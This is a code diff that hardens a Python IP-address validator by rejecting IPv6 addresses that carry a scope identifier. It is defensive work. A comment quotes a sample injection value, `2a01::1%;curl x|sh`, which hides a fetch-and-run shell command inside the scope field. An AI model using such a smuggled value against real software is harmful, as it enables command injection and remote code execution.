@@ -116,7 +116,10 @@ def address(value: Any, version: int, allow_local: bool) -> str:
         found = ipaddress.ip_address(value) if isinstance(value, str) else None
     except ValueError:
         found = None
-    if found is None or found.version != version or not (allow_local or found.is_global):
+    # A scope may be any text: `2a01::1%;curl x|sh` is an address to Python.
+    if found is None or getattr(found, "scope_id", None):
+        return ""
+    if found.version != version or not (allow_local or found.is_global):
         return ""
     return str(found)
 
